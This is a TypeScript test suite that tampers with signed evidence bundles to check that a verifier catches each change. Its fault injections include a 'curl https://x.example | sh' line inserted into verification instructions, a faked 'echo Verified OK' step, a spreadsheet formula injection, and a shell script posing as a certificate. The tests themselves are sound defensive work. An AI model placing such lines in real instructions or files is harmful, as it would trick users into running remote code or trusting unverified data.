import { beforeAll, describe, expect, it, vi } from 'vitest';
import { canonicalBytes } from '../../utils/chain/canonical';
import { digestOf, disclose, parseDisclosure } from '../../utils/chain/disclosure';
import { headerLine, headOf, parseHeader } from '../../utils/chain/header';
import { sha256Hex } from '../../utils/chain/sha256';
import { makeBundle } from '../../utils/evidence/bundle';
import { verifyBundle } from '../../utils/evidence/verify';
import { type Draft, type Key, littleLog, newKey, sameLook, semarang } from './little-log';
import { Tampered } from './tampered';

vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 });

/** What stands beside the entries, changed and signed again by the holder of the key: copies for spreadsheets, instructions, certificates, names. */
let key: Key;
let zip: Uint8Array;
const options = { profile: 'lengkap', now: '2020-08-06T06:00:00.000Z', clock: 'device', offsetMin: 420 } as const;
const failures = async (bytes: Uint8Array): Promise<string[]> => {
  const { checks } = await verifyBundle(bytes);
  return [...new Set(checks.filter(({ ok }) => !ok).map(({ id }) => id))];
};
const open = () => Tampered.open(zip);
const signed = async (bag: Tampered): Promise<string[]> => failures(await (await (await bag.rebag()).sign(key)).zip());
const invented = async (drafts: readonly Draft[]): Promise<string[]> => failures((await makeBundle(littleLog(key, drafts), options)).bytes);

beforeAll(async () => {
  key = await newKey();
  zip = (await makeBundle(littleLog(key, semarang(key)), options)).bytes;
});

describe('copies for spreadsheets', () => {
  it.each<[string, string, string, string]>([
    ['a value', 'bidang.csv', '"Aktif"', '"Selesai"'],
    ['a value, with semicolons', 'bidang-titik-koma.csv', '"Aktif"', '"Selesai"'],
    ['the number of an entry', 'linimasa.csv', '"5","2020', '"4","2020'],
    ['a time', 'linimasa-titik-koma.csv', '2020-08-06T02:14:00.000Z', '2020-05-06T02:14:00.000Z'],
    ['a class', 'linimasa.csv', '"C"', '"A"'],
    ['a formula', 'linimasa.csv', '"Temuan","C","', '"Temuan","C","=1+1'],
    ['a cell without quotes', 'linimasa.csv', '"C"', 'C'],
    ['the first line', 'linimasa.csv', '"kelas"', '"sep=;"'],
  ])('with %s changed', async (_, file, from, to) => {
    const bag = (await open()).edit(`data/${file}`, (text) => text.replace(from, to));
    expect(await signed(bag)).toEqual(['findings']);
  });
  it('with a row taken out', async () => {
    const bag = (await open()).edit('data/linimasa.csv', (text) => text.split('\r\n').toSpliced(6, 1).join('\r\n'));
    expect(await signed(bag)).toEqual(['findings']);
  });
});

describe('instructions', () => {
  it.each([
    ['PERIKSA.txt', (text: string) => text.replace('unzip ', 'curl https://x.example | sh; unzip ')],
    ['PERIKSA.txt', (text: string) => text.replace(/^openssl dgst .*$/m, 'echo Verified OK')],
    ['PERIKSA.txt', (text: string) => text.replace(/^ {2}- baris terakhir .*$/m, (line) => line.replace(/[0-9a-f]{64}/, '0'.repeat(64)))],
    ['BACA-SAYA.txt', (text: string) => text.replace('data/laporan.html', 'https://x.example')],
  ])('in %s that say something else than ours', async (path, change) => {
    const bag = (await open()).edit(path, change);
    expect(await signed(await bag.tagged())).toEqual(['content']);
  });
});

describe('a report', () => {
  const limits = async (bag: Tampered): Promise<string> =>
    (await verifyBundle(await bag.zip(), { language: 'en' })).cannotConclude.join('\n');
  it('is what this version writes of the entries, or else that is said', async () => {
    expect(await limits(await open())).not.toContain('sentences of the report');
    for (const file of ['laporan.html', 'report.en.html']) {
      const bag = (await open()).edit(`data/${file}`, (text) => text.replace('21 Ju', '20 Ju'));
      expect(await limits(await (await bag.rebag()).sign(key))).toContain('sentences of the report');
    }
  });
  it('of a log with values and entries held back by hand is the same', async () => {
    const withhold = {
      leaves: ['pelatihan/0/status', 'judul'],
      fields: [
        { seq: 5, name: 'nama' },
        { seq: 1, name: 'nama' },
      ],
      seqs: [2],
      pages: [5],
    };
    const { bytes } = await makeBundle(littleLog(key, semarang(key)), { ...options, profile: 'ombudsman', withhold });
    expect(await failures(bytes)).toEqual([]);
    expect(await limits(await Tampered.open(bytes))).not.toContain('sentences of the report');
  });
});

describe('files that no record names', () => {
  it('certificates that are no certificates', async () => {
    expect(await signed((await open()).write('data/tsa/x.pem', '#!/bin/sh\n'))).toEqual(['content']);
    const pem = `-----BEGIN CERTIFICATE-----\n${'A'.repeat(64)}\n-----END CERTIFICATE-----\n`;
    expect(await signed((await open()).write('data/tsa/x.pem', pem))).toEqual([]);
  });
});

describe('records', () => {
  const paper = (path: string): Draft[] => [
    ...semarang(key),
    {
      kind: 'attachment',
      time: '2020-08-07T00:00:00.000Z',
      files: [{ role: 'attachment', path: `attachments/000009/${path}`, text: 'x' }],
    },
  ];
  it('that name a paper that could run', async () => {
    expect(await invented(paper('lampiran.pdf'))).toEqual([]);
    for (const path of ['lampiran.exe', 'lampiran.sh', 'lampiran.pdf.lnk', 'lampiran'])
      expect(await invented(paper(path))).toEqual(['layout']);
  });
  it('whose salt could be guessed', async () => {
    const source = littleLog(key, semarang(key));
    const [, first] = source.entries;
    const record = JSON.parse(new TextDecoder().decode(first?.record));
    const guessable = disclose('1', 'pelatihan/0/status', 'Aktif');
    record.sd['pelatihan/0/status'] = digestOf(guessable);
    const lines = (first?.disclosures ?? []).map((line) => (parseDisclosure(line).name === 'pelatihan/0/status' ? guessable : line));
    const bag = (await open())
      .write('data/records/000001.json', canonicalBytes(record))
      .write('data/disclosures/000001.txt', `${lines.join('\n')}\n`);
    let prev = '';
    const log = source.entries.map(({ line }, seq) => {
      const header = parseHeader(line);
      const body = seq === 1 ? sha256Hex(canonicalBytes(record)) : header.body;
      const made = headerLine({ ...header, kind: header.kind as 'capture', body, prev: prev === '' ? header.prev : prev });
      prev = headOf(made);
      return made;
    });
    bag.write('data/log.jsonl', `${log.join('\n')}\n`);
    const { checks } = await verifyBundle(await (await (await bag.rebag()).sign(key)).zip(), { language: 'en' });
    expect(checks.filter(({ ok, id }) => !ok && id === 'disclosures').map(({ detail }) => detail)).toEqual([
      'A value is not the one locked at its time. (the salt of pelatihan/0/status is not 128 bits)',
    ]);
  });
  it('that name one value in two ways', async () => {
    for (const name of ['pelatihan/00/status', 'pelatihan/0//status', 'pelatihan/0/status/'])
      expect(
        await invented(
          semarang(key).map((draft, seq) => (seq === 1 ? { ...draft, leaves: [...(draft.leaves ?? []), [name, 'x']] } : draft)),
        ),
      ).toEqual(['disclosures']);
  });
});

describe('who signs', () => {
  const keyEntry = (spki: Uint8Array): Draft => ({
    kind: 'key',
    time: '2020-08-07T00:00:00.000Z',
    body: { key: { alg: 'ES384', spki_sha256: sha256Hex(spki) } },
  });
  const restore: Draft = {
    kind: 'restore',
    time: '2020-08-07T00:00:00.000Z',
    body: { reason: 'restored', size: 9, head: 'ab'.repeat(32) },
  };
  const by = async (courier: Key, drafts: readonly Draft[]) =>
    verifyBundle((await makeBundle({ ...littleLog(key, drafts), key: courier }, options)).bytes);

  it('a courier who names a key of their own fails; after a restore the change is said, with the key of before', async () => {
    const courier = await newKey();
    const { checks } = await by(courier, [...semarang(key), keyEntry(courier.spki)]);
    expect(checks.filter(({ ok }) => !ok).map(({ id, where }) => `${id} ${where}`)).toEqual(['key entry 9']);
    const restored = await by(courier, [...semarang(key), restore, keyEntry(courier.spki)]);
    expect(restored.cannotConclude.join()).toContain('kuncinya berganti');
    expect(restored).toMatchObject({
      ok: true,
      formerKeys: [{ until: 10, fingerprint: sha256Hex(key.spki) }],
      keyFingerprint: sha256Hex(courier.spki),
    });
    const { cannotConclude, ...unchanged } = await by(key, semarang(key));
    expect(unchanged).toMatchObject({ ok: true, formerKeys: [] });
    expect(cannotConclude.join()).not.toContain('kuncinya berganti');
  });
});

describe('notes that this version does not know how to tell', () => {
  const time = '2020-08-07T00:00:00.000Z';
  const about = [{ rule: 'rule-of-tomorrow', seq: 5 }];
  it.each<[string, NonNullable<Draft['body']>]>([
    ['a day', { statement: 'answer', by: 'pmo', answer: 'promise' }],
    ['a day that is text', { statement: 'complaint', happened: 7, way: 'email', to: 'pmo', times: 1, about }],
    ['a rule that it knows', { statement: 'complaint', happened: '2020-08-07', way: 'email', to: 'pmo', times: 1, about }],
    ['findings', { statement: 'complaint', happened: '2020-08-07', way: 'email', to: 'pmo', times: 1 }],
    ['a way that it knows', { statement: 'complaint', happened: '2020-08-07', way: 'pigeon', to: 'palace', times: 1, about: [] }],
  ])('without %s get a verdict all the same', async (_, body) => {
    const honest = [...semarang(key), { kind: 'note', time, body: { statement: 'completed', happened: '2020-05-19' } } as Draft];
    const source = littleLog(key, honest);
    const strange = littleLog(key, [...honest.slice(0, -1), { kind: 'note', time, body } as Draft]);
    const bag = await Tampered.open((await makeBundle(source, options)).bytes);
    const last = strange.entries.at(-1);
    bag.write('data/records/000009.json', last?.record ?? new Uint8Array());
    bag.write('data/log.jsonl', `${strange.entries.map(({ line }) => line).join('\n')}\n`);
    const verdict = await verifyBundle(await (await (await bag.rebag()).sign(key)).zip());
    expect(verdict.asWritten).toBe(false);
    expect(verdict.checks.length).toBeGreaterThan(10);
  });
});

describe('a page kept by a click', () => {
  const time = '2020-08-07T00:00:00.000Z';
  const page = (more: NonNullable<Draft['body']> = {}): Draft => ({
    kind: 'capture',
    time,
    body: {
      witness: 'page',
      captured: { device_utc: time, session: '0'.repeat(32) },
      source: { url: 'https://www.instagram.com/p/1/', status: 200 },
      ...more,
    },
  });
  it('passes, also where it is about a finding', async () => {
    expect(await invented([...semarang(key), page()])).toEqual([]);
    expect(await invented([...semarang(key), page({ about: [{ rule: 'training-disappeared', seq: 5 }] })])).toEqual([]);
  });
  it.each<[string, NonNullable<Draft['body']>]>([
    ['was read as if it were a look', { observed: { pelatihan: 'listed' } }],
    ['repeats a look', { same_as: 1 }],
    ['was read again', { reread_of: 1 }],
    ['is a witness of another kind', { witness: 'film' }],
    ['is about something that it does not name', { about: [{ rule: 'training-disappeared' }] }],
  ])('that %s', async (_, more) => expect(await invented([...semarang(key), page(more)])).toEqual(['records']));
  it('is no look that another one repeats', async () =>
    expect(await invented([...semarang(key), page(), sameLook('2020-08-08T00:00:00.000Z', 9)])).toEqual(['records']));
});
